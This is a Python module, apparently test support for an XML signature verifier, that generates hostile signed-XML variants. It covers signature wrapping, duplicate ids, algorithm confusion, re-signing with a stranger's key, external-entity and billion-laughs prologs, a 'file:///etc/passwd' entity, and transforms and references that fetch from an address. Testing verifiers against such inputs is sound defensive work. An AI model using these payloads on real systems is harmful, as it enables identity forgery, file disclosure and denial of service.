"""What attackers make of a signed XML message that they caught, whatever its binding.

The structures are those of McIntosh and Austel (2005), of SAML Raider's XSW 1 to 8 and of WS-Attacker's list, told as
what they have in common: a forged copy of what is signed takes its place, the original hides somewhere, the signature
stays with one of both, and ids are given so that some reader may take the one for the other.
"""

from __future__ import annotations

import base64
import copy
import hmac
from collections.abc import Callable, Iterator
from itertools import product
from typing import TYPE_CHECKING

from cryptography.hazmat.primitives.asymmetric import padding, rsa
from cryptography.hazmat.primitives.hashes import SHA1, SHA256
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat
from lxml import etree

from signing.xml.names import DSIG, EXCLUSIVE, INCLUSIVE

if TYPE_CHECKING:
    from tests.doubles.pki import Issued

MORE = "http://www.w3.org/2001/04/xmldsig-more#"
WSU = "http://docs.oasis-open.org/wss/2004/01/oasis-200401-wss-wssecurity-utility-1.0.xsd"
XML_ID = "{http://www.w3.org/XML/1998/namespace}id"
TRUE_NAME, FALSE_NAME = "Nguyễn Văn Ánh", "Kẻ Gian"

Element = etree._Element
Hostile = Iterator[tuple[str, bytes]]


def ds(name: str) -> str:
    return f"{{{DSIG}}}{name}"


def parsed(raw: bytes) -> Element:
    return etree.fromstring(raw)


def written(root: Element) -> bytes:
    return etree.tostring(root, encoding="utf-8")


def the(root: Element, name: str) -> Element:
    return next(root.iter(ds(name)))


def ids_of(element: Element) -> list[str]:
    return [str(key) for key in element.keys() if etree.QName(str(key)).localname.lower() == "id"]  # noqa: SIM118 - an element iterates over its children


def targets(root: Element) -> list[Element]:
    """Return what the references point at, the last first: the payload comes after the headers."""
    found = []
    for reference in root.iter(ds("Reference")):
        uri = reference.get("URI") or ""
        named = [e for e in root.iter("*") if any(f"#{e.get(key)}" == uri for key in ids_of(e))]
        found.extend(named if uri else [root])
    return found[::-1]


# --- wrapping


def _in_object(forged: Element, original: Element, signature: Element) -> None:
    del forged
    etree.SubElement(signature, ds("Object")).append(original)


def _in_key_info(forged: Element, original: Element, signature: Element) -> None:
    del forged
    the(signature, "KeyInfo").append(original)


def _in_value(forged: Element, original: Element, signature: Element) -> None:
    del forged
    the(signature, "SignatureValue").append(original)


def _last_child(forged: Element, original: Element, signature: Element) -> None:
    del signature
    forged.append(original)


def _first_child(forged: Element, original: Element, signature: Element) -> None:
    del signature
    forged.insert(0, original)


def _in_a_wrapper(forged: Element, original: Element, signature: Element) -> None:
    del signature
    etree.SubElement(forged, "wrapper").append(original)


def _before(forged: Element, original: Element, signature: Element) -> None:
    del signature
    forged.addprevious(original)


def _after(forged: Element, original: Element, signature: Element) -> None:
    del signature
    forged.addnext(original)


def _in_the_first_branch(forged: Element, original: Element, signature: Element) -> None:
    """A SOAP Header, where there is one."""
    del signature
    forged.getroottree().getroot()[0].append(original)


def _beside_the_signature(forged: Element, original: Element, signature: Element) -> None:
    del forged
    signature.addnext(original)


HIDING: dict[str, Callable[[Element, Element, Element], None]] = {
    "in an Object": _in_object,
    "in KeyInfo": _in_key_info,
    "in SignatureValue": _in_value,
    "as last child": _last_child,
    "as first child": _first_child,
    "in a wrapper": _in_a_wrapper,
    "before": _before,
    "after": _after,
    "in the first branch": _in_the_first_branch,
    "beside the signature": _beside_the_signature,
}
IDS: dict[str, str | None] = {
    "same id": "",
    "no id": None,
    "Id": "Id",
    "ID": "ID",
    "id": "id",
    "xml:id": XML_ID,
    "wsu:Id": f"{{{WSU}}}Id",
    "another id": "another",
}
WITH = ("the forged", "the original", "both")


def wrapped(raw: bytes) -> Hostile:
    """Wrap each of the signed elements in every way."""
    for number in range(len(targets(parsed(raw)))):
        for hiding, identity, stays in product(HIDING, IDS, WITH):
            made = _wrap(raw, number, hiding, identity, stays)
            if made:
                yield f"{number} {hiding}, {identity}, signature with {stays}", made


def _wrap(raw: bytes, number: int, hiding: str, identity: str, stays: str) -> bytes:
    root = parsed(raw)
    original = targets(root)[number]
    inside = any(original is each for each in the(root, "Signature").iterancestors())
    if not inside and stays != "the forged":
        return b""  # the signature lies elsewhere and stays there
    if original is root and hiding in {"before", "after"}:
        return b""
    forged = _forged(original)
    _identify(forged, identity)
    parent = original.getparent()
    if parent is not None:
        parent.replace(original, forged)
    if inside:
        dropped = original if stays == "the forged" else forged
        if stays != "both":
            inner = the(dropped, "Signature")
            inner.getparent().remove(inner)  # type: ignore[union-attr]  # it lies inside
    whole = forged if parent is None else root
    signature = next(whole.iter(ds("Signature")), None)
    if signature is None:
        signature = next(original.iter(ds("Signature")))
        if hiding not in {
            "as last child",
            "as first child",
            "in a wrapper",
            "before",
            "after",
            "in the first branch",
        }:
            return b""  # it cannot hide in its own signature's part
    if any(forged is each for each in original.iterancestors()):
        return b""
    HIDING[hiding](forged, original, signature)
    return written(whole)


def _forged(original: Element) -> Element:
    copied = copy.deepcopy(original)
    copied.tail = None
    for element in copied.iter("*"):
        if element.text and TRUE_NAME in element.text:
            element.text = element.text.replace(TRUE_NAME, FALSE_NAME)
    return copied


def _identify(forged: Element, identity: str) -> None:
    known = ids_of(forged)
    value = str(forged.get(known[0])) if known else "x"
    name = IDS[identity]
    if name == "":
        return
    for each in known:
        del forged.attrib[each]
    if name == "another":
        forged.set(known[0] if known else "Id", "another")
    elif name:
        forged.set(name, value)


def second_signature(raw: bytes) -> Hostile:
    """The signature twice, whole and in parts; and one that is the root."""
    for where in ("before", "after", "inside", "in the root"):
        root = parsed(raw)
        signature = the(root, "Signature")
        again = copy.deepcopy(signature)
        {
            "before": signature.addprevious,
            "after": signature.addnext,
            "inside": signature.append,
            "in the root": root.append,
        }[where](again)
        yield f"a second signature {where}", written(root)
    for part in ("SignedInfo", "SignatureValue", "KeyInfo", "Reference", "DigestValue", "SignatureMethod"):
        root = parsed(raw)
        each = the(root, part)
        each.addnext(copy.deepcopy(each))
        yield f"a second {part}", written(root)
    root = parsed(raw)
    signature = the(root, "Signature")
    signature.getparent().remove(signature)  # type: ignore[union-attr]  # it is no root
    etree.SubElement(signature, ds("Object")).append(root)
    yield "the signature as root", written(signature)


def duplicate_ids(raw: bytes) -> Hostile:
    """Another element that bears the id of what is signed, under every name by which some reader takes it for one."""
    count = len(targets(parsed(raw)))
    for number, name in product(
        range(count), ("Id", "ID", "id", "iD", XML_ID, f"{{{WSU}}}Id", f"{{{WSU}}}ID")
    ):
        for where in (0, -1):
            root = parsed(raw)
            target = targets(root)[number]
            known = ids_of(target)
            if not known or name in known:
                continue
            other = etree.Element("other")
            other.set(name, str(target.get(known[0])))
            branch = root[where]
            branch.append(other)
            yield f"{name} twice, {where}", written(root)


# --- what is said of the signature


def resigned(root: Element, seal: Issued, value: Callable[[bytes], bytes] | None = None) -> bytes:
    """Sign SignedInfo anew with the pinned key: so that nothing but the guard can refuse it."""
    information = the(root, "SignedInfo")
    exclusive = (the(root, "CanonicalizationMethod").get("Algorithm") or "").startswith(EXCLUSIVE)
    canonical = etree.tostring(information, method="c14n", exclusive=exclusive, with_tail=False)
    made = value(canonical) if value else rsa_key(seal).sign(canonical, padding.PKCS1v15(), SHA256())
    the(root, "SignatureValue").text = base64.b64encode(made).decode()
    return written(root)


def rsa_key(seal: Issued) -> rsa.RSAPrivateKey:
    assert isinstance(seal.key, rsa.RSAPrivateKey)
    return seal.key


def other_algorithms(raw: bytes, seal: Issued) -> Hostile:
    """Every method that is not allowed, truly made where it can be."""
    public = seal.certificate.public_key().public_bytes(Encoding.PEM, PublicFormat.SubjectPublicKeyInfo)
    certificate = seal.certificate.public_bytes(Encoding.DER)
    sha1 = lambda data: rsa_key(seal).sign(data, padding.PKCS1v15(), SHA1())  # noqa: E731, S303 - the attack
    pss = lambda data: rsa_key(seal).sign(data, padding.PSS(padding.MGF1(SHA256()), 32), SHA256())  # noqa: E731
    methods: dict[str, Callable[[bytes], bytes] | None] = {
        f"{DSIG}rsa-sha1": sha1,
        "http://www.w3.org/2007/05/xmldsig-more#rsa-pss": pss,
        f"{MORE}hmac-sha256": lambda data: hmac.digest(public, data, "sha256"),
        f"{DSIG}hmac-sha1": lambda data: hmac.digest(certificate, data, "sha1"),
        f"{MORE}ecdsa-sha256": None,
        f"{MORE}rsa-md5": None,
        f"{DSIG}dsa-sha1": None,
        f"{MORE}rsa-sha256 ": None,
        "none": None,
        "": None,
    }
    for uri, made in methods.items():
        root = parsed(raw)
        the(root, "SignatureMethod").set("Algorithm", uri)
        yield f"signature method {uri}", resigned(root, seal, made)
    root = parsed(raw)
    etree.SubElement(the(root, "SignatureMethod"), ds("HMACOutputLength")).text = "0"
    yield "an HMAC of no bits", resigned(root, seal)
    for uri in (f"{DSIG}sha1", f"{MORE}md5", "http://www.w3.org/2001/04/xmlenc#sha512 ", "none", ""):
        root = parsed(raw)
        the(root, "DigestMethod").set("Algorithm", uri)
        yield f"digest method {uri}", resigned(root, seal)


def other_canonicalisations(raw: bytes, seal: Issued) -> Hostile:
    for uri in (
        f"{INCLUSIVE}#WithComments",
        f"{EXCLUSIVE}WithComments",
        "http://www.w3.org/2006/12/xml-c14n11#WithComments",
        "urn:unknown",
        "",
    ):
        root = parsed(raw)
        if the(root, "CanonicalizationMethod").get("Algorithm") == uri:
            continue
        the(root, "CanonicalizationMethod").set("Algorithm", uri)
        yield f"canonicalisation {uri}", resigned(root, seal)


XSLT = (
    '<x:stylesheet version="1.0" xmlns:x="http://www.w3.org/1999/XSL/Transform">'
    '<x:template match="/"><x:copy-of select="document(\'%s\')"/></x:template></x:stylesheet>'
)


def other_transforms(raw: bytes, seal: Issued, address: str) -> Hostile:
    """Transforms that run, select or fetch; before and after those that are allowed."""
    transforms = {
        "xslt": ("http://www.w3.org/TR/1999/REC-xslt-19991116", XSLT % address),
        "xpath": (
            "http://www.w3.org/TR/1999/REC-xpath-19991116",
            f'<d:XPath xmlns:d="{DSIG}">count(//*) = 0</d:XPath>',
        ),
        "xpath filter": (
            "http://www.w3.org/2002/06/xmldsig-filter2",
            '<f:XPath xmlns:f="http://www.w3.org/2002/06/xmldsig-filter2" Filter="subtract">//*</f:XPath>',
        ),
        "base64": (f"{DSIG}base64", ""),
        "decrypt": ("http://www.w3.org/2002/07/decrypt#XML", ""),
        "relationships": ("http://schemas.openxmlformats.org/package/2006/RelationshipTransform", ""),
        "unknown": (address, ""),
    }
    for (name, (uri, inside)), where in product(transforms.items(), (0, -1)):
        root = parsed(raw)
        transform = etree.Element(ds("Transform"), Algorithm=uri)
        if inside:
            transform.append(parsed(inside.encode()))
        listed = the(root, "Transforms")
        listed.insert(0 if where == 0 else len(listed), transform)
        yield f"{name} at {where}", resigned(root, seal)


def other_references(raw: bytes, seal: Issued, address: str) -> Hostile:
    for uri in (
        *("#other", "#", "##hs", "#xpointer(/)", "#xpointer(id('x'))", "#xmlns(a=b)xpointer(//*)"),
        *(address, "file:///etc/passwd", "cid:part", "http://127.0.0.1:1/", "..", "?", "//127.0.0.1/x"),
    ):
        root = parsed(raw)
        the(root, "Reference").set("URI", uri)
        yield f"reference {uri}", resigned(root, seal)
    root = parsed(raw)
    del the(root, "Reference").attrib["URI"]
    yield "a reference to nothing named", resigned(root, seal)
    for count in (2, 200):
        root = parsed(raw)
        reference = the(root, "Reference")
        for _ in range(count):
            reference.addnext(copy.deepcopy(reference))
        yield f"{count} references more", resigned(root, seal)
    root = parsed(raw)
    for reference in list(root.iter(ds("Reference"))):
        reference.getparent().remove(reference)  # type: ignore[union-attr]  # it has a parent
    yield "no reference", resigned(root, seal)


def other_keys(raw: bytes, stranger: Issued, address: str) -> Hostile:
    """A stranger signs and brings a key along, by every way that KeyInfo has."""
    numbers = rsa_key(stranger).public_key().public_numbers()
    modulus = base64.b64encode(numbers.n.to_bytes(256, "big")).decode()
    shown = base64.b64encode(stranger.certificate.public_bytes(Encoding.DER)).decode()
    infos = {
        "key value": f"<d:KeyValue><d:RSAKeyValue><d:Modulus>{modulus}</d:Modulus><d:Exponent>AQAB</d:Exponent>"
        "</d:RSAKeyValue></d:KeyValue>",
        "retrieval": f'<d:RetrievalMethod URI="{address}" Type="{DSIG}X509Data"/>',
        "key info reference": f'<e:KeyInfoReference xmlns:e="http://www.w3.org/2009/xmldsig11#" URI="{address}"/>',
        "name": f"<d:KeyName>{address}</d:KeyName>",
        "its certificate": f"<d:X509Data><d:X509Certificate>{shown}</d:X509Certificate></d:X509Data>",
        "a certificate's address": f"<d:X509Data><d:X509URI>{address}</d:X509URI></d:X509Data>",
        "an address of a token": '<w:SecurityTokenReference xmlns:w="http://docs.oasis-open.org/wss/2004/01/'
        f'oasis-200401-wss-wssecurity-secext-1.0.xsd"><w:Reference URI="{address}"/></w:SecurityTokenReference>',
        "nothing": "",
    }
    for name, inside in infos.items():
        root = parsed(raw)
        for old in list(root.iter(ds("KeyInfo"))):
            new = parsed(f'<d:KeyInfo xmlns:d="{DSIG}">{inside}</d:KeyInfo>'.encode())
            old.getparent().replace(old, new)  # type: ignore[union-attr]  # it has a parent
        yield f"key by {name}", resigned(root, stranger)
    yield "the pinned certificate beside a stranger's signature", resigned(parsed(raw), stranger)


# --- the text itself


def prologs(raw: bytes, address: str) -> Hostile:
    """What stands before a document and changes what it means, or calls somebody."""
    laughs = b"".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10 if i else "lol"}">'.encode() for i in range(10))
    for name, prolog in {
        "a doctype": b"<!DOCTYPE x>",
        "an outer subset": f'<!DOCTYPE x SYSTEM "{address}">'.encode(),
        "a public one": f'<!DOCTYPE x PUBLIC "-//x" "{address}">'.encode(),
        "an outer entity": f'<!DOCTYPE x [<!ENTITY e SYSTEM "{address}">]>'.encode(),
        "a parameter entity": f'<!DOCTYPE x [<!ENTITY % e SYSTEM "{address}"> %e;]>'.encode(),
        "a file": b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>',
        "ids of its own": b"<!DOCTYPE x [<!ATTLIST TiepNhanHoSo x ID #IMPLIED>]>",
        "a default attribute": b'<!DOCTYPE x [<!ATTLIST TiepNhanHoSo Id CDATA "evil">]>',
        "laughs": b"<!DOCTYPE x [" + laughs + b"]>",
        "a stylesheet": f'<?xml-stylesheet type="text/xsl" href="{address}"?>'.encode(),
        "an instruction": b"<?php x?>",
        "another encoding": b'<?xml version="1.0" encoding="utf-7"?>',
        "utf-16 by name": b'<?xml version="1.0" encoding="utf-16"?>',
        "xml 1.1": b'<?xml version="1.1"?>',
    }.items():
        yield name, prolog + raw
    bodied = raw.replace(TRUE_NAME.encode(), b"&e;")
    yield "an entity in a name", f'<!DOCTYPE x [<!ENTITY e SYSTEM "{address}">]>'.encode() + bodied
    yield "an entity nobody declared", bodied
    yield "UTF-16", raw.decode().encode("utf-16")


def splits(raw: bytes) -> Hostile:
    """The signed name torn apart without changing what canonical XML says of it. A reader that takes the first text
    node reads half a name.
    """
    before, after = TRUE_NAME.encode()[:8], TRUE_NAME.encode()[8:]
    for name, torn in {
        "a comment": before + b"<!-- x -->" + after,
        "comments": b"<!---->" + before + b"<!-- --><!-- -->" + after + b"<!---->",
        "CDATA": b"<![CDATA[" + before + b"]]>" + after,
        "CDATA in the middle": before + b"<![CDATA[" + after + b"]]>",
        "character references": before + b"".join(f"&#{ord(c)};".encode() for c in after.decode()),
    }.items():
        yield name, raw.replace(before + after, torn)
